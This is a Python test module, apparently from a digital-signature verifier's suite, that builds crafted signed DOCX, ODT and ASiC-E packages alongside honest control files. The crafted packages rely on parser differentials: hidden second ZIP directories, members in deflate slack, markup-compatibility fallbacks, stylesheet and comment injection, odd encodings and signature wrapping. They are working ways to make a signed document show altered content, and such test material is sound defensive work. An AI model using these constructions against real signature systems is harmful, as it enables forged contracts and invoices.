"""Signed packages that two readers take for two documents (G13 to G15): directories of archives, markup, encodings."""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from lxml import etree

from tests.pki import xml
from tests.pki.tree import tree
from tests.signatures.samples import Sample, signed_letter, signed_text

_COMPATIBLE = "http://schemas.openxmlformats.org/markup-compatibility/2006"
_STYLE = b'<?xml-stylesheet type="text/xsl" href="khac.xsl"?>'
_LIST, _SIGNATURES = "META-INF/documentsignatures.xml", "META-INF/signatures0.xml"
_END = "<4s4H2LH"


def attacks() -> Iterator[Sample]:
    """Every file."""
    for title, make in ATTACKS.items():
        yield Sample("G14", title, make())


# Directories of archives.


def _end_of(data: bytes) -> int:
    return data.rindex(b"PK\x05\x06")


def _with_end(data: bytes, place: int, value: int, kind: str = "<H") -> bytes:
    changed = bytearray(data)
    struct.pack_into(kind, changed, _end_of(data) + place, value)
    return bytes(changed)


def two_directories() -> bytes:
    """A second package waits in the thumbnail, which nobody signs; the plain end leads to it, that of zip64 to the signed one."""
    files = dict(signed_letter())
    declared = b'<Default Extension="jpeg" ContentType="image/jpeg"/></Types>'
    files["[Content_Types].xml"] = files["[Content_Types].xml"].replace(b"</Types>", declared)
    other = xml.pack({**files, "word/document.xml": files["word/document.xml"].replace(b"1215", b"9999")})
    begin = _packed(files, other).index(other)
    end = _end_of(other)
    _, _, _, _, count, size, offset, _ = struct.unpack(_END, other[end:])
    directory = bytearray(other[offset : offset + size])
    position = 0
    while position < size:
        lengths = struct.unpack_from("<HHH", directory, position + 28)
        place = struct.unpack_from("<L", directory, position + 42)[0]
        struct.pack_into("<L", directory, position + 42, place + begin)
        position += 46 + sum(lengths)
    signed = _packed(files, other[:offset] + bytes(directory) + other[offset + size :])
    end = _end_of(signed)
    _, _, _, _, *held, _ = struct.unpack(_END, signed[end:])
    zip64 = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, held[0], *held)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, end, 1)
    plain = struct.pack(_END, b"PK\5\6", 0, 0, count, count, size, begin + offset, 0)
    return signed[:end] + zip64 + locator + plain


def _packed(files: dict[str, bytes], thumbnail: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
        archive.writestr(zipfile.ZipInfo("docProps/thumbnail.jpeg"), thumbnail, zipfile.ZIP_STORED)
    return out.getvalue()


def _name_ends_early() -> bytes:
    plain = xml.odt(more={"Pictures/ab.png": b"x"})
    return xml.pack(xml.members(xml.sign_odf(plain, tree().g2_person))).replace(b"Pictures/ab.png", b"Pictures/a\0.png")


def _member_in_slack() -> bytes:
    """Behind the end of a deflated stream, but within its octets, another member: who reads from the front finds it."""
    files = signed_letter()
    name, text = b"word/document.xml", files["word/document.xml"]
    stream = zlib.compressobj(wbits=-15)
    octets = stream.compress(text) + stream.flush()
    other = text.replace(b"1215", b"9999")
    header = struct.pack(
        "<4s5H3L2H", b"PK\3\4", 20, 0, 0, 0, 0, zlib.crc32(other), len(other), len(other), len(name), 0
    )
    descriptor = struct.pack("<4s3L", b"PK\7\x08", zlib.crc32(text), len(octets), len(text))
    octets += descriptor + header + name + other
    rest = xml.pack({key: value for key, value in files.items() if key != name.decode()})
    end = _end_of(rest)
    count, size, offset = struct.unpack_from("<HLL", rest, end + 10)
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 8, 8, 0, 0, 0, 0, 0, len(name), 0)
    entry = struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 8, 8, 0, 0, zlib.crc32(text), len(octets), len(text),
                        len(name), 0, 0, 0, 0, 0, offset)  # fmt: skip
    added = local + name + octets + struct.pack("<4s3L", b"PK\7\x08", zlib.crc32(text), len(octets), len(text))
    directory = rest[offset : offset + size] + entry + name
    plain = struct.pack(_END, b"PK\5\6", 0, 0, count + 1, count + 1, len(directory), offset + len(added), 0)
    return rest[:offset] + added + directory + plain


# Markup.


def _changed(files: dict[str, bytes], name: str, change: Callable[[bytes], bytes]) -> bytes:
    return xml.pack({**files, name: change(files[name])})


def _alternative(inner: str, root: str) -> Callable[[bytes], bytes]:
    text = f'<mc:AlternateContent xmlns:mc="{_COMPATIBLE}"><mc:Fallback>{inner}</mc:Fallback></mc:AlternateContent></{root}>'
    return lambda data: data.replace(f"</{root}>".encode(), text.encode())


def invoice(text: str = "<hoadon><tien>1000000</tien></hoadon>") -> dict[str, bytes]:
    """An ASiC container whose only object is an XML file, signed in its canonical form."""
    value = xml.digest(etree.tostring(etree.fromstring(text).getroottree(), method="c14n", with_comments=False))
    one = xml.reference("hoadon.xml", value, transforms=f'<Transform Algorithm="{xml.C14N}"/>')
    scope = ' xmlns:asic="http://uri.etsi.org/02918/v1.2.1#"'
    signature = xml.signature(tree().g2_seal, [one], [("idXades", xml.xades_object(tree().g2_seal))], scope=scope)
    wrapped = f"<asic:XAdESSignatures{scope}>{signature}</asic:XAdESSignatures>"
    kind = b"application/vnd.etsi.asic-e+zip"
    return {"mimetype": kind, "hoadon.xml": text.encode(), "META-INF/signatures0.xml": wrapped.encode()}


def _encoded(encoding: str) -> Callable[[bytes], bytes]:
    return lambda data: f'<?xml version="1.0" encoding="{encoding}"?>{data.decode()}'.encode(
        encoding, "xmlcharrefreplace"
    )


ATTACKS: dict[str, Callable[[], bytes]] = {
    "two-directories.docx": two_directories,
    "fewer-members-counted.docx": lambda: _with_end(_with_end(xml.pack(signed_letter()), 8, 3), 10, 3),
    "directory-elsewhere.docx": lambda: _with_end(xml.pack(signed_letter()), 16, 0, "<L"),
    "directory-on-another-disk.docx": lambda: _with_end(xml.pack(signed_letter()), 6, 2),
    "two-ends.docx": lambda: _with_end(xml.pack(signed_letter()), 20, 22) + struct.pack(_END, b"PK\5\6", *[0] * 7),
    "name-ends-early.odt": _name_ends_early,
    "member-in-slack.docx": _member_in_slack,
    "relationship-in-alternative.docx": lambda: _changed(signed_letter(), "_rels/.rels", _alternative(
        f'<Relationship Id="rX" Type="{xml.REL_TYPES}/officeDocument" Target="word/khac.xml"/>', "Relationships")),
    "type-in-alternative.docx": lambda: _changed(signed_letter(), "[Content_Types].xml", _alternative(
        '<Override PartName="/word/document.xml" ContentType="text/html"/>', "Types")),
    "style-sheet-before.odt": lambda: _changed(signed_text(), "content.xml", lambda data: _STYLE + data),
    "style-sheet-behind.odt": lambda: _changed(signed_text(), "content.xml", lambda data: data + _STYLE),
    "style-sheet-before.asice": lambda: _changed(invoice(), "hoadon.xml", lambda data: _STYLE + data),
    "comment-in-amount.odt": lambda: _changed(
        signed_text(), "content.xml", lambda data: data.replace(b"1.000.000", b"1.000<!-- -->.000")),
    "comment-before.odt": lambda: _changed(signed_text(), "content.xml", lambda data: b"<!-- -->" + data),
    "foreign-dtd.odt": lambda: _changed(
        signed_text(), "content.xml", lambda data: b'<!DOCTYPE x SYSTEM "http://x.example/a.dtd">' + data),
    "foreign-dtd.asice": lambda: _changed(
        invoice(), "hoadon.xml", lambda data: b'<!DOCTYPE hoadon SYSTEM "a.dtd">' + data),
    **{f"encoding-{one}.odt": lambda one=one: _changed(signed_text(), "content.xml", _encoded(one))
       for one in ("utf-7", "cp1258", "shift_jis", "euc-kr")},
    "encoding-utf-7.asice": lambda: _changed(invoice(), "hoadon.xml", _encoded("utf-7")),
    "list-made-comment.odt": lambda: _changed(signed_text(), _LIST, lambda data: data.replace(
        b"<Signature ", b"<!--<Signature ", 1).replace(b"</Signature></doc", b"</Signature>--></doc")),
    "list-of-other-kind.odt": lambda: _changed(
        signed_text(), _LIST, lambda data: data.replace(b"2000/09/xmldsig#", b"2000/09/xmldsig")),
    "list-emptied.asice": lambda: _changed(invoice(), _SIGNATURES, lambda data: re.sub(
        rb"(?s)<Signature .*</Signature>", b"", data)),
    "signature-wrapped.asice": lambda: _changed(invoice(), _SIGNATURES, lambda data: data.replace(
        b"<Signature ", b"<x><Signature ", 1).replace(b"</asic:", b"</x></asic:")),
}  # fmt: skip
"""Makers of the files by name."""

HONEST: dict[str, Callable[[], bytes]] = {
    "invoice.asice": lambda: xml.pack(invoice()),
    "invoice-with-comment.asice": lambda: xml.pack(invoice("<hoadon><!-- mẫu 01 --><tien>1</tien></hoadon>")),
    "invoice-with-style-sheet.asice": lambda: xml.pack(invoice(f"{_STYLE.decode()}<hoadon><tien>1</tien></hoadon>")),
    "utf-16.odt": lambda: _changed(signed_text(), "content.xml", lambda data: data.decode().encode("utf-16")),
    "declared-utf-8.odt": lambda: _changed(
        signed_text(), "content.xml", lambda data: b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + data),
    "comment-of-archive.docx": lambda: _with_end(xml.pack(signed_letter()), 20, 5) + b"Luu y",
    "line-behind-archive.docx": lambda: xml.pack(signed_letter()) + b"\r\n",
}  # fmt: skip
"""Files that come near to those and are honest."""
